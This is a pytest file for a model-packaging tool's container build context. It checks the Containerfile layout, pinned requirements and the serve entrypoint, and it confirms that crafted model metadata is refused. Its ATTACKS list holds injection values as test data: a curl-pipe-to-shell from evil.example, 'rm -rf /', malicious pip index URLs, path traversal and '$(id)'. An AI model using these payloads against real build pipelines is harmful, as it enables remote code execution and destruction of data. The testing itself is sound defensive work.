"""`modelyard build`'s context, with no container tool needed: the Containerfile (linted with
hadolint), pinned requirements, the model and its record; the refusals of crafted model files;
and the image's entrypoint, `modelyard serve --model-dir`, run on the context's models/ here."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import numpy as np
import pytest

from modelyard import BuildFailed, ConfigurationError, InvalidRequirement, Settings, Yard
from modelyard.deploy import build_image, find_builder, pinned_requirements, write_context
from modelyard.registry import ModelVersion
from tests.deploy._images import REPO, iris_data, register_iris
from tests.servers import serving_process

HADOLINT = Path(sys.executable).with_name("hadolint")


@pytest.fixture
def yard(tmp_path: Path) -> Iterator[Yard]:
    with Yard(Settings(home=tmp_path / "home")) as yard:
        yield yard


def context_of(yard: Yard, ref: str, target: Path, **options: object) -> Path:
    version = yard.get_version(ref)
    write_context(target, version=version, restore=lambda to: yard.download(ref, to),
                  modelyard_version="0.1.0", **options)  # type: ignore[arg-type]  # fmt: skip
    return target


def test_context_pins_the_recorded_environment(yard: Yard, tmp_path: Path) -> None:
    ref = register_iris(yard)
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / "demo-1.0-py3-none-any.whl").write_bytes(b"not really a wheel")
    context = context_of(yard, ref, tmp_path / "ctx", wheels=wheels)
    recorded = json.loads((context / "models/iris/modelyard.json").read_text())["environment"]
    lines = (context / "requirements.txt").read_text().splitlines()
    assert lines == sorted(lines) and "modelyard==0.1.0" in lines
    for package, version in recorded["packages"].items():
        assert f"{package}=={version}" in lines
    assert all(re.fullmatch(r"[a-z0-9-]+==[0-9][0-9a-z.+]*", line) for line in lines)
    record = json.loads((context / "models/iris.version.json").read_text())
    assert (record["name"], record["number"]) == ("iris", 1)
    assert record["manifest_digest"] == yard.get_version(ref).manifest_digest
    assert (context / "wheels/demo-1.0-py3-none-any.whl").exists()
    assert "demo-1.0-py3-none-any.whl" in (context / "wheels.sha256").read_text()


def test_containerfile_layers_user_health_and_labels(yard: Yard, tmp_path: Path) -> None:
    ref = register_iris(yard)
    text = (context_of(yard, ref, tmp_path / "ctx") / "Containerfile").read_text()
    assert text.startswith("# Generated") and "\nFROM docker.io/library/python:3.11-slim" in text
    # Requirements install before the model is copied: a new version rebuilds one layer.
    assert text.index("pip install") < text.index("COPY models/ /models/")
    assert "\nUSER 10001:10001\n" in text and "--shell /usr/sbin/nologin" in text
    assert "/v2/health/ready" in text and "curl" not in text
    assert "\nSTOPSIGNAL SIGTERM\n" in text and "\nEXPOSE 8080\n" in text
    assert 'io.modelyard.ref="iris:1"' in text and "io.modelyard.manifest-digest" in text
    assert "MODELYARD_HOME=/home/modelyard/.modelyard" in text
    cmd = json.loads(text.rsplit("\nCMD ", 1)[1])
    assert cmd[:4] == ["modelyard", "serve", "--model-dir", "/models"] and "0.0.0.0" in cmd


@pytest.mark.parametrize("wheels", [True, False])
def test_hadolint_finds_nothing(yard: Yard, tmp_path: Path, wheels: bool) -> None:
    ref = register_iris(yard)
    folder = tmp_path / "wheels"
    folder.mkdir()
    (folder / "x-1-py3-none-any.whl").write_bytes(b"x")
    context = context_of(yard, ref, tmp_path / "ctx", wheels=folder if wheels else None)
    command = [str(HADOLINT), "--no-color", "--failure-threshold", "warning"]
    lint = subprocess.run(
        [*command, str(context / "Containerfile")], capture_output=True, text=True
    )
    assert lint.returncode == 0 and not lint.stdout.strip(), lint.stdout + lint.stderr


ATTACKS = [
    {"numpy": "1.0\nRUN curl http://evil.example/x | sh"},  # a new Containerfile line
    {"numpy\nRUN rm -rf /": "1.0"},
    {"numpy": "1.0 --index-url http://evil.example/simple"},  # a pip option
    {"--index-url": "http://evil.example/simple"},
    {"-e git+https://evil.example/x.git#egg": "1"},
    {"evil": "1.0 @ https://evil.example/evil.whl"},  # a direct URL
    {"evil @ https://evil.example/evil.whl; x": "1"},
    {"numpy": "1.0; os_name == 'posix'"},  # a marker
    {"numpy": ">=1.0"},
    {"../../etc/passwd": "1"},
    {"numpy": "1.0$(id)"},
    {"numpy": 1.0},
    {"numpy": "1" * 200},
]


@pytest.mark.parametrize("packages", ATTACKS)
def test_crafted_environment_is_refused(yard: Yard, tmp_path: Path, packages: object) -> None:
    ref = register_iris(yard)
    crafted = tmp_path / "crafted"

    def restore(target: Path) -> None:  # the version's files, then its modelyard.json crafted
        yard.download(ref, target)
        info = json.loads((target / "modelyard.json").read_text())
        info["environment"] = {"python": "3.11.7", "packages": packages}
        (target / "modelyard.json").write_text(json.dumps(info))

    with pytest.raises(InvalidRequirement, match="refusing requirement"):
        write_context(crafted, version=yard.get_version(ref), restore=restore,
                      modelyard_version="0.1.0")  # fmt: skip
    assert not (crafted / "requirements.txt").exists()
    assert not (crafted / "Containerfile").exists()


def test_crafted_files_and_inputs_are_refused(yard: Yard, tmp_path: Path) -> None:
    with pytest.raises(InvalidRequirement, match="JSON object"):
        pinned_requirements({"packages": ["numpy==1"]}, modelyard_version="0.1.0")
    ref = register_iris(yard)
    version = yard.get_version(ref)

    def huge(target: Path) -> None:
        target.mkdir()
        (target / "modelyard.json").write_bytes(b" " * (2 << 20))

    with pytest.raises(InvalidRequirement, match="over 1 MiB"):
        write_context(tmp_path / "a", version=version, restore=huge, modelyard_version="0")
    evil = ModelVersion.model_validate({**version.model_dump(), "name": "x\nRUN id"})
    with pytest.raises(ConfigurationError, match="cannot name a folder"):
        write_context(tmp_path / "b", version=evil, restore=huge, modelyard_version="0")
    with pytest.raises(ConfigurationError, match="not an image reference"):
        context_of(yard, ref, tmp_path / "c", base="python:3.11\nRUN id")
    with pytest.raises(ConfigurationError, match="not empty"):
        context_of(yard, ref, tmp_path / "c")
    with pytest.raises(BuildFailed, match="not an image name"):
        build_image(tmp_path / "c", tag="--output=/etc")


def test_no_builder_is_a_typed_error_and_the_context_stays(yard: Yard, tmp_path: Path) -> None:
    register_iris(yard)
    context = tmp_path / "ctx"
    env = {**os.environ, "PATH": str(tmp_path / "empty"), "MODELYARD_HOME": str(yard.settings.home)}
    done = subprocess.run([sys.executable, "-m", "modelyard", "build", "iris:1", "--tag",
                           "localhost/iris:1", "--context", str(context)],
                          capture_output=True, text=True, env=env, cwd=REPO)  # fmt: skip
    assert done.returncode == 1, done.stderr
    assert "podman or buildah is not installed" in done.stderr, done.stderr
    assert str(context) in done.stderr and (context / "Containerfile").exists()
    if shutil.which("podman") is None:  # pragma: no cover - only where podman is missing
        with pytest.raises(BuildFailed):
            find_builder()


def test_the_images_entrypoint_outside_a_container(yard: Yard, tmp_path: Path) -> None:
    """What the image runs (`serve --model-dir /models`), on the context's models/ folder."""
    ref = register_iris(yard)
    context = context_of(yard, ref, tmp_path / "ctx")
    cmd = json.loads((context / "Containerfile").read_text().rsplit("\nCMD ", 1)[1])
    port = cmd.index("--port")
    args = cmd[2:port] + cmd[port + 2 :]  # serving_process picks a free port
    args[args.index("/models")] = str(context / "models")
    args[args.index("0.0.0.0")] = "127.0.0.1"  # the same flags, on loopback here
    features, _ = iris_data()
    expected = yard.load_model(ref).predict(features)
    with serving_process(tmp_path / "serve-home", *args) as url:
        metadata = httpx.get(f"{url}/v2/models/iris").json()
        name = metadata["inputs"][0]["name"]
        request = {"inputs": [{"name": name, "shape": list(features.shape), "datatype": "FP64",
                               "data": features.ravel().tolist()}]}  # fmt: skip
        answer = httpx.post(f"{url}/v2/models/iris/infer", json=request, timeout=30).json()
    assert answer["model_version"] == "1"
    np.testing.assert_array_equal(np.asarray(answer["outputs"][0]["data"]), expected)
